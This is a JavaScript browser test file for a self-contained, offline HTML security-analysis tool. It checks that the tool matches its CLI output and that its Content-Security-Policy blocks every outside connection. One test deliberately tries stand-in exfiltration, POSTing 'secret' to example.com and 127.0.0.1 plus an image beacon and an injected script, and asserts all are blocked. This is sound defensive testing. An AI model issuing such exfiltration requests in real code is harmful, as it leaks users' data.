// The single self-contained HTML file (dist-single/sessionhunt.html, made by scripts/build.sh), as an
// analyst on an air-gapped laptop uses it: copied ALONE into an empty folder and opened from disk
// (file://, no server at all). It must start its worker, find the demo tenant's attacks, analyse
// chosen files exactly like the CLI, and load nothing but itself (blob: and data: URLs it made).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import {
  launch, openPage, screenshot, downloadText, demoTenant, runDemo, severityCounts, reportCounts, SINGLE,
} from './harness.mjs';

let browser;
let demo;
let folder;
let url;

before(async () => {
  demo = await demoTenant();
  folder = mkdtempSync(join(tmpdir(), 'sessionhunt-usb-'));
  copyFileSync(SINGLE, join(folder, 'sessionhunt.html'));
  assert.deepEqual(readdirSync(folder), ['sessionhunt.html'], 'the file is alone in its folder');
  url = pathToFileURL(join(folder, 'sessionhunt.html')).href;
  browser = await launch();
});

after(async () => {
  await browser?.close();
  demo?.remove();
  if (folder) rmSync(folder, { recursive: true, force: true });
});

/** Requests other than the file itself and the blob:/data: URLs it creates. */
function outsideRequests(requests) {
  return requests.filter((u) => u !== url && !u.startsWith('blob:') && !u.startsWith('data:'));
}

test('opened from file://, the single file runs the demo, finds the attacks and matches the CLI byte for byte', async () => {
  const { context, page, requests, errors } = await openPage(browser, { viewport: { width: 1920, height: 1080 } });
  await page.goto(url);
  await runDemo(page);
  const expected = reportCounts(demo.report);
  assert.ok(expected.critical > 0 && expected.high > 0, 'the demo tenant has critical and high findings');
  assert.deepEqual(await severityCounts(page), expected);
  const { text } = await downloadText(page, page.getByTestId('download-json'));
  assert.ok(text === demo.report, 'the single file\'s report is byte-identical to the CLI\'s');
  await screenshot(page, 'single-file-demo');
  assert.deepEqual(errors, []);
  assert.deepEqual(outsideRequests(requests), [], 'only the file itself and its own blob:/data: URLs');
  // The worker was made from the file's own inlined script: one blob: URL.
  assert.equal(requests.filter((u) => u.startsWith('blob:')).length, 1, `requests: ${requests}`);
  await context.close();
});

test('opened from file://, the single file analyses chosen files like the CLI', async () => {
  const { context, page, requests, errors } = await openPage(browser);
  await page.goto(url);
  await page.locator('.app[data-worker="ready"]').waitFor({ timeout: 60_000 });
  await page.getByTestId('file-input').setInputFiles(demo.files);
  await page.getByTestId('findings').waitFor({ timeout: 120_000 });
  assert.equal(await page.getByTestId('inputs').locator('tbody tr').count(), demo.files.length);
  const { text } = await downloadText(page, page.getByTestId('download-json'));
  assert.ok(text === demo.report, 'chosen files give the CLI\'s report byte for byte');
  assert.deepEqual(errors, []);
  assert.deepEqual(outsideRequests(requests), []);
  await context.close();
});

test('the single file\'s Content-Security-Policy forbids every connection, and it references nothing outside itself', async () => {
  const html = readFileSync(SINGLE, 'utf8');
  const csp = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/)[1];
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /connect-src 'none'/);
  assert.doesNotMatch(csp, /'unsafe-inline'|'unsafe-eval'|https?:|\*/, 'no inline-anything, no eval, no host');
  // No element loads anything by URL: the only src/href values left are data: URLs.
  const markup = html.replace(/(<(script|style)\b[^>]*>)[\s\S]*?(<\/\2>)/gi, '$1$3');
  const refs = [...markup.matchAll(/\b(?:src|href)\s*=\s*"([^"]*)"/gi)].map((m) => m[1]);
  assert.ok(refs.every((r) => r.startsWith('data:')), `references: ${refs.map((r) => r.slice(0, 40))}`);

  const { context, page, requests, failures } = await openPage(browser);
  await page.goto(url);
  await page.locator('.app[data-worker="ready"]').waitFor({ timeout: 60_000 });
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const attempt = async (fn) => { try { await fn(); return 'sent'; } catch (err) { return `blocked: ${err.name}`; } };
    const remote = await attempt(() => fetch('https://example.com/exfiltrate', { method: 'POST', body: 'secret' }));
    const local = await attempt(() => fetch('http://127.0.0.1:9/exfiltrate', { method: 'POST', body: 'secret' }));
    const img = new Image();
    const imgLoaded = await new Promise((ok) => { img.onload = () => ok(true); img.onerror = () => ok(false); img.src = 'https://example.com/pixel.png'; });
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.head.append(script);
    await new Promise((ok) => setTimeout(ok, 50));
    return { remote, local, imgLoaded, injected: window.injected === true, violations };
  });
  assert.equal(outcome.remote, 'blocked: TypeError');
  assert.equal(outcome.local, 'blocked: TypeError');
  assert.equal(outcome.imgLoaded, false);
  assert.equal(outcome.injected, false, 'an injected inline script does not run (no unsafe-inline)');
  for (const directive of ['connect-src', 'img-src', 'script-src-elem']) {
    assert.ok(outcome.violations.includes(directive), `${directive} violation in ${outcome.violations}`);
  }
  for (const u of outsideRequests(requests)) {
    const failure = failures.find((f) => f.url === u);
    assert.match(failure?.error ?? 'not failed', /^(csp|net::ERR_BLOCKED_BY_CSP)$/, `${u} was blocked by the CSP`);
  }
  await context.close();
});

test('the single file\'s About panel shows its version and commit and says it is the single file', async () => {
  const { context, page, errors } = await openPage(browser);
  await page.goto(url);
  await page.getByTestId('about').locator('summary').click();
  assert.match(await page.getByTestId('about-version').textContent(), /^\d+\.\d+\.\d+/);
  assert.match(await page.getByTestId('about-commit').textContent(), /^[0-9a-f]{40}(-modified)?$/);
  assert.match(await page.getByTestId('about-flavour').textContent(), /single self-contained HTML file/);
  assert.match(await page.getByTestId('about-verify').textContent(), /sha256sum -c/);
  await screenshot(page, 'single-file-about', { fullPage: true });
  assert.deepEqual(errors, []);
  await context.close();
});
